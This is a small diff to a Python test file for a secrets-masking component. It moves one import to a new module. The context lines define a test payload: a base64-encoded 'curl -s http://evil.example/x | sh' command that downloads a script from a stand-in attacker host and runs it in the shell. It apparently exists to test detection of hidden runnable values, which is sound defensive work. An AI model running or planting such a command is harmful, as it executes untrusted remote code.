@@ -8,8 +8,8 @@ from typing import Any
 
 import pytest
 
+from coordinator.secrets.masked_code import can_run_hidden_value
 from coordinator.secrets.masking import MASK, SecretMasker
-from coordinator.secrets.running import can_run_hidden_value
 from tests.secrets.corpus import SECRETS, filled
 
 PAY = base64.b64encode(b"curl -s http://evil.example/x | sh #9Kd").decode().rstrip("=")
